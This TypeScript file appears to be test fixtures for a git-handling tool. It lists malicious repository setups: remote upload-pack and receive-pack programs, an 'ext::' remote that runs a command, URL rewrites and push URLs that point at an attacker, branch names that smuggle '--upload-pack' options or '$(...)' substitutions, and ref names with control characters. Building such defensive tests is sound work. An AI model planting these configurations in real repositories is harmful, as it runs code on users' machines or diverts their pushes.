import type { Attack } from './attack.ts'

const COMMANDS: readonly Attack[] = [
  {
    name: 'an upload-pack program of the remote',
    script: 'program .git/evil exit; configure remote.origin.uploadpack "$evil"',
    plainGit: 'executes',
  },
  {
    name: 'a receive-pack program of the remote',
    script: 'program .git/evil exit; configure remote.origin.receivepack "$evil"',
    plainGit: 'executes',
  },
  {
    name: 'a remote that is a command',
    script: 'configure remote.origin.url "ext::touch $CANARY"; configure protocol.ext.allow always',
    plainGit: 'executes',
  },
]

const REDIRECTIONS: readonly Attack[] = [
  {
    name: 'a rewritten address of everything',
    script: 'configure "url.file://$ATTACKER.insteadOf" "file://$UPSTREAM"',
    plainGit: 'redirects',
  },
  {
    name: 'a rewritten address of pushes',
    script: 'configure "url.file://$ATTACKER.pushInsteadOf" "file://$UPSTREAM"',
    plainGit: 'redirects',
  },
  {
    name: 'a push address of the remote',
    script: 'configure remote.origin.pushurl "file://$ATTACKER"',
    plainGit: 'redirects',
  },
]

/** A branch of that name is checked out, as far as `.git/HEAD` says. */
const branchNamed = (name: string): string => `printf 'ref: refs/heads/%s\\n' "${name}" > .git/HEAD`

const REFERENCES: readonly Attack[] = [
  {
    name: 'a branch named like an option',
    script: branchNamed('--upload-pack=touch\\${IFS}$CANARY'),
    plainGit: 'executes',
  },
  { name: 'a branch named like a command', script: branchNamed('\\$(touch\\${IFS}$CANARY)'), plainGit: 'executes' },
  {
    name: 'branches with control characters in their names',
    script: String.raw`
id=1111111111111111111111111111111111111111
printf '%s refs/heads/a\033[2J\033]0;x\007\n%s refs/heads/b\r\001\177\n' $id $id >> .git/packed-refs
name=$(printf 'c\n--upload-pack=x\n\033[31m')
mkdir -p .git/refs/heads; echo $id > ".git/refs/heads/$name"
printf 'ref: refs/heads/%s\n' "$name" > .git/HEAD`,
    plainGit: 'none',
  },
  {
    name: '100,000 branches',
    script: 'seq 100000 | sed "s|.*|1111111111111111111111111111111111111111 refs/heads/b&|" >> .git/packed-refs',
    plainGit: 'none',
  },
]

/** Attacks on where git fetches from and pushes to, and on names the host might take over. */
export const REMOTE_ATTACKS: readonly Attack[] = [...COMMANDS, ...REDIRECTIONS, ...REFERENCES]
